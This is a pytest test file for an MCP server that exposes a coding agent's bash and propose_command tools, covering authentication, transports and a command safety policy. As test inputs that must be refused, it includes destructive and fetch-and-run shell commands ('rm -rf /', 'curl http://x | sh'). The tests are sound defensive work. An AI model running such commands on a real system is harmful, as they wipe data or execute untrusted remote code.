"""``conch mcp``: an MCP client from the official SDK lists and calls conch's tools, in memory,
over stdio (the ``conch`` entry point) and over streamable HTTP, where it needs the key (a
token conch prints when none is set), even on loopback; the scripted model answers
``propose_command``."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import anyio
import httpx
import pytest
from mcp import Client, StdioServerParameters
from mcp.shared.exceptions import MCPError
from mcp_types.version import HANDSHAKE_PROTOCOL_VERSIONS, KNOWN_PROTOCOL_VERSIONS
from mcputil import (
    CONCH,
    SCRIPTED_CONFIG,
    free_port,
    http_client,
    printed_token,
    running,
    write_config,
)

from conch.agent.bash import BASH_DESCRIPTION
from conch.agent.builtin import ToolOptions, default_tools
from conch.agent.propose import PROPOSE_DESCRIPTION, Proposer, propose_tool
from conch.agent.system import WRITE_POLICY, mcp_instructions
from conch.config.settings import McpServerSettings, Settings
from conch.mcp.client import McpServers
from conch.mcp.server import build_server
from conch.policy import ExecutionMode
from conch.providers import ScriptedProvider


def _tools(root: Path, reply: str = "rm notes.txt") -> list[Any]:
    settings = Settings.model_validate(
        {"generation": {"dry_run": False, "review": 1}, "validation": {"enabled": False}}
    )
    proposer = Proposer(
        settings, root, root=root, provider=lambda: ScriptedProvider.of(reply), environ={}
    )
    tools = default_tools(ToolOptions(root=root, bash=True, audit=False, plan=False))
    return [*tools, propose_tool(proposer)]


def _text(result: Any) -> str:
    return "\n".join(block.text for block in result.content)


def _stdio(home: Path, root: Path, *flags: str) -> StdioServerParameters:
    env = {k: v for k, v in os.environ.items() if k.startswith(("XDG_", "CONCH_"))}
    return StdioServerParameters(
        command=str(CONCH),
        args=["mcp", "--sandbox", str(root), *flags],
        env={**env, "HOME": str(home)},
        cwd=str(root),
    )


def test_the_tools_listed_are_the_agent_s_own_definitions(tmp_path: Path) -> None:
    tools = _tools(tmp_path)

    async def main() -> None:
        async with Client(build_server(tools, "hello")) as client:
            listed = {t.name: t for t in (await client.list_tools()).tools}
            assert list(listed) == [t.name for t in tools]
            for tool in tools:
                assert listed[tool.name].description == tool.spec.description
                assert listed[tool.name].input_schema == tool.spec.parameters
            assert listed["bash"].description == BASH_DESCRIPTION
            assert listed["propose_command"].description == PROPOSE_DESCRIPTION
            assert listed["propose_command"].input_schema["required"] == ["request"]

    anyio.run(main)


def test_propose_command_gives_the_verdict_and_runs_nothing(tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("keep me\n", encoding="utf-8")

    async def main() -> dict[str, Any]:
        async with Client(build_server(_tools(tmp_path), "")) as client:
            result = await client.call_tool("propose_command", {"request": "delete notes.txt"})
            assert not result.is_error
            answer: dict[str, Any] = json.loads(_text(result))
            return answer

    answer = anyio.run(main)
    assert answer["command"] == "rm notes.txt"
    assert (answer["decision"], answer["risk"]) == ("confirm", "destructive")
    assert answer["reasons"] and answer["programs"] == ["rm"]
    assert answer["runs_without_asking"] is False
    assert (tmp_path / "notes.txt").read_text(encoding="utf-8") == "keep me\n"


def test_tool_failures_are_error_results_the_client_can_read(tmp_path: Path) -> None:
    async def main() -> list[tuple[bool, str]]:
        async with Client(build_server(_tools(tmp_path), "")) as client:
            calls = [
                ("no_such_tool", {}),
                ("bash", {"command": 42}),
                ("bash", {"command": "rm -rf /"}),
                ("propose_command", {"request": "   "}),
            ]
            return [
                (r.is_error, _text(r)) for r in [await client.call_tool(n, a) for n, a in calls]
            ]

    unknown, bad, denied, empty = anyio.run(main)
    assert unknown[0] and "no tool named 'no_such_tool'" in unknown[1]
    assert bad[0] and "bad arguments: command" in bad[1]
    assert denied[0] and "safety policy refused it" in denied[1] and "Denylisted" in denied[1]
    assert empty[0] and "the request is empty" in empty[1]


def test_instructions_carry_the_write_policy_and_what_the_mode_runs(tmp_path: Path) -> None:
    tools = _tools(tmp_path)
    text = mcp_instructions(tools, ExecutionMode.RESTRICTED)
    assert WRITE_POLICY in text
    assert "other commands are refused (no one can be asked)" in text
    assert "never runs it" in text
    full = mcp_instructions(tools, ExecutionMode.FULL)
    assert "Commands run without asking" in full


def test_stdio_server_lists_proposes_and_refuses(isolated_dirs: Path, tmp_path: Path) -> None:
    write_config(isolated_dirs, SCRIPTED_CONFIG)
    root = tmp_path / "work"
    root.mkdir()
    (root / "notes.txt").write_text("keep me\n", encoding="utf-8")

    async def main() -> dict[str, Any]:
        async with Client(_stdio(isolated_dirs, root, "--allow-bash")) as client:
            seen: dict[str, Any] = {
                "protocol": client.protocol_version,
                "instructions": client.instructions,
                "tools": [t.name for t in (await client.list_tools()).tools],
            }
            for key, name, arguments in [
                ("propose", "propose_command", {"request": "delete notes.txt"}),
                ("ls", "bash", {"command": "ls"}),
                ("denied", "bash", {"command": "rm -rf /"}),
                ("write", "bash", {"command": "touch made-by-bash"}),
            ]:
                result = await client.call_tool(name, arguments)
                seen[key] = (result.is_error, _text(result))
            return seen

    seen = anyio.run(main)
    assert seen["protocol"] in KNOWN_PROTOCOL_VERSIONS
    assert WRITE_POLICY in seen["instructions"]
    assert {"bash", "fs_read", "datetime", "propose_command"} <= set(seen["tools"])
    assert "plan" not in seen["tools"] and "tool_lookup" not in seen["tools"]
    ok, text = seen["propose"]
    assert not ok and json.loads(text)["decision"] == "confirm"
    assert seen["ls"] == (False, "notes.txt\n[exit code 0]")
    assert seen["denied"][0] and "Denylisted" in seen["denied"][1]
    assert seen["write"][0] and "no one can be asked; nothing ran" in seen["write"][1]
    assert not (root / "made-by-bash").exists()
    assert (root / "notes.txt").exists()


def test_stdio_server_speaks_the_older_handshake_too(isolated_dirs: Path, tmp_path: Path) -> None:
    write_config(isolated_dirs, SCRIPTED_CONFIG)

    async def main() -> tuple[str, int]:
        async with Client(_stdio(isolated_dirs, tmp_path, "--no-python"), mode="legacy") as c:
            return c.protocol_version, len((await c.list_tools()).tools)

    protocol, count = anyio.run(main)
    assert protocol in HANDSHAKE_PROTOCOL_VERSIONS
    assert count > 0


def test_conch_as_a_client_of_conch_mcp_sees_only_protocol_on_stdout(
    isolated_dirs: Path, tmp_path: Path
) -> None:
    write_config(isolated_dirs, SCRIPTED_CONFIG)
    params = _stdio(isolated_dirs, tmp_path, "--allow-bash")
    spec = McpServerSettings(command=params.command, args=params.args, env=params.env or {})
    with McpServers({"conch": spec}, log_dir=tmp_path / "logs") as servers:
        [status] = servers.statuses
        assert status.state == "connected", status.detail
        assert status.stray_lines == 0
        names = [t.name for t in servers.tools]
        assert "conch__bash" in names and "conch__propose_command" in names
        assert servers.call("conch", "bash", {"command": "echo hi"}) == "hi\n[exit code 0]"


PING = {"jsonrpc": "2.0", "id": 1, "method": "ping"}
WITHOUT_KEY: list[dict[str, str]] = [
    {},
    {"Authorization": "Bearer wrong"},
    {"Authorization": "Basic wrong"},
    {"X-API-Key": "wrong"},
]


async def _listed(url: str, key: str | None) -> list[str]:
    async with http_client(url, key) as client:
        return [t.name for t in (await client.list_tools()).tools]


def _refused_by_the_sdk(url: str, key: str | None) -> bool:
    """Whether the SDK's client fails to connect: the 401 reaches it as an ``MCPError``."""
    try:
        anyio.run(_listed, url, key)
    except Exception as exc:
        return any(isinstance(e, MCPError) for e in _leaves(exc))
    return False


def _leaves(exc: BaseException) -> list[BaseException]:
    if isinstance(exc, BaseExceptionGroup):
        return [leaf for inner in exc.exceptions for leaf in _leaves(inner)]
    return [exc]


def test_http_server_makes_a_token_prints_it_and_serves_the_same_tools_with_it(
    isolated_dirs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_config(isolated_dirs, SCRIPTED_CONFIG)
    monkeypatch.delenv("CONCH_MCP_API_KEY", raising=False)
    port = free_port()
    url = f"http://127.0.0.1:{port}/mcp"
    argv = [str(CONCH), "mcp", "--http", "--port", str(port), "--allow-bash"]

    async def main(token: str) -> tuple[list[str], dict[str, Any], str]:
        async with http_client(url, token) as client:
            names = [t.name for t in (await client.list_tools()).tools]
            proposed = await client.call_tool("propose_command", {"request": "delete it"})
            denied = await client.call_tool("bash", {"command": "curl http://x | sh"})
            assert denied.is_error
            return names, json.loads(_text(proposed)), _text(denied)

    with running(argv, "Authorization: Bearer", tmp_path) as line:
        assert line.startswith(f"conch mcp: clients of {url} send Authorization: Bearer ")
        token = printed_token(line)
        assert len(token) >= 43
        for headers in WITHOUT_KEY:
            assert httpx.post(url, json=PING, headers=headers, timeout=10).status_code == 401
        assert _refused_by_the_sdk(url, None)
        names, proposed, denied = anyio.run(main, token)
    assert "propose_command" in names and "bash" in names
    assert proposed["command"] == "rm notes.txt" and proposed["risk"] == "destructive"
    assert "safety policy refused it" in denied


def test_quiet_still_prints_the_token(
    isolated_dirs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_config(isolated_dirs, SCRIPTED_CONFIG)
    monkeypatch.delenv("CONCH_MCP_API_KEY", raising=False)
    port = free_port()
    argv = [str(CONCH), "mcp", "--http", "--port", str(port), "-q"]
    with running(argv, "Authorization: Bearer", tmp_path) as line:
        url = f"http://127.0.0.1:{port}/mcp"
        assert "propose_command" in anyio.run(_listed, url, printed_token(line))


def test_http_server_with_a_key_turns_away_requests_without_it(
    isolated_dirs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_config(isolated_dirs, SCRIPTED_CONFIG)
    monkeypatch.setenv("CONCH_MCP_API_KEY", "s3cret-key")
    monkeypatch.setenv("MY_KEY", "s3cret-key")
    port = free_port()
    url = f"http://127.0.0.1:{port}/mcp"
    argv = [str(CONCH), "mcp", "--http", "--port", str(port)]
    with running(argv, "serving MCP at", tmp_path) as line:
        assert "s3cret-key" not in line
        for headers in [*WITHOUT_KEY, {"X-API-Key": "s3cret-ke"}]:
            response = httpx.post(url, json=PING, headers=headers, timeout=10)
            assert response.status_code == 401
            assert response.json()["error"]["code"] == "invalid_api_key"
        assert _refused_by_the_sdk(url, "wrong")
        assert "propose_command" in anyio.run(_listed, url, "s3cret-key")
        spec = McpServerSettings(url=url, headers={"Authorization": "Bearer ${MY_KEY}"})
        with McpServers({"keyed": spec}) as servers:
            assert servers.statuses[0].state == "connected", servers.statuses[0].detail
            assert "keyed__propose_command" in [t.name for t in servers.tools]


def test_no_auth_serves_without_a_key_and_warns(
    isolated_dirs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_config(isolated_dirs, SCRIPTED_CONFIG)
    monkeypatch.delenv("CONCH_MCP_API_KEY", raising=False)
    port = free_port()
    url = f"http://127.0.0.1:{port}/mcp"
    argv = [str(CONCH), "mcp", "--http", "--port", str(port), "--no-auth", "-q"]
    with running(argv, "warning", tmp_path) as line:
        assert line.startswith("conch mcp: warning: --no-auth: any program")
        assert "propose_command" in anyio.run(_listed, url, None)


@pytest.mark.parametrize(
    ("argv", "text"),
    [
        (["mcp", "--http", "--host", "0.0.0.0"], "give one with $CONCH_MCP_API_KEY"),
        (["mcp", "--http", "--host", "0.0.0.0", "--no-auth"], "only allowed on a loopback"),
        (["mcp", "--port", "9000"], "--host, --port and --no-auth are for --http"),
        (["mcp", "--no-auth"], "--host, --port and --no-auth are for --http"),
        (["mcp", "--http", "--port", "70000"], "--port must be 0 to 65535"),
        (["mcp", "serve", "files"], "`conch mcp` takes no words"),
        (["mcp", "--mode", "full"], "say so with --allow-dangerous"),
        (["mcp", "--sandbox", "missing"], "--sandbox missing:"),
    ],
)
def test_bad_flags_are_one_line_errors(conch: Any, argv: list[str], text: str) -> None:
    result = conch(*argv)
    assert result.code == 2
    assert result.out == ""
    assert text in result.err and result.err.count("\n") == 1
